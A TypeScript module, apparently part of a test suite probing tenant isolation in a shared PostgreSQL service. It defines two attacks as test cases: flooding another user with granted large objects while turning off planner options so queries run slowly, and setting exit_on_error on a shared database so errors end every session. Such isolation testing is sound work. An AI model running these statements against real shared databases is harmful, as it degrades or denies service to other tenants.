/** What a tenant sets on databases that it owns, or has a share in, for whoever enters them. */
import type { Attack, Attacker } from '../attack.ts';
import { goesThough, shareDatabase } from './leaving.ts';
import { ownerOf } from './pooler.ts';

/** Large objects that another may read by way of the owner, so that each has to be looked at. */
async function showMany(attacker: Attacker, username: string): Promise<void> {
  const { database } = attacker.me;
  const session = await attacker.direct(database, { query_timeout: 3_600_000 });
  const owner = await ownerOf(session, attacker);
  await session.done(
    `DO $$ DECLARE several text; BEGIN FOR n IN 1..3 LOOP
       several := (SELECT pg_catalog.string_agg(pg_catalog.lo_create(0)::text, ', ') FROM pg_catalog.generate_series(1, 5000));
       EXECUTE 'GRANT SELECT ON LARGE OBJECT ' || several || ' TO "${owner}" WITH GRANT OPTION';
       EXECUTE 'SET ROLE "${owner}"';
       EXECUTE 'GRANT SELECT ON LARGE OBJECT ' || several || ' TO "${username}"';
       EXECUTE 'SET ROLE NONE';
       COMMIT; END LOOP; END $$`,
  );
  await session.end();
}

/** What is left are loops within loops over whole tables. */
const quick = [
  ...['enable_indexscan', 'enable_indexonlyscan', 'enable_bitmapscan', 'enable_hashjoin'],
  ...['enable_mergejoin', 'enable_material', 'enable_memoize'],
];

async function misplan(attacker: Attacker): Promise<void> {
  const session = await attacker.direct('postgres');
  await session.done(`SET ROLE "${await attacker.owner()}"`);
  for (const one of quick)
    await session.done(`ALTER DATABASE "${attacker.me.database}" SET ${one} = off`);
  await session.end();
}

export const settings: readonly Attack[] = [
  {
    name: 'the-planner-is-told-to-be-slow',
    position: 'direct',
    rule: 8,
    at: {
      joined: (attacker) =>
        goesThough(attacker, async (username) => {
          await showMany(attacker, username);
          await misplan(attacker);
        }),
    },
  },
  {
    name: 'an-error-ends-every-session',
    position: 'direct',
    rule: 8,
    extra: { 'extra-user-roles': 'CREATEDB' },
    at: {
      joined: (attacker) =>
        goesThough(attacker, async (_, third) => {
          const inside = await shareDatabase(attacker, third);
          await inside.done('ALTER DATABASE evil_both SET exit_on_error = on');
        }),
    },
  },
];
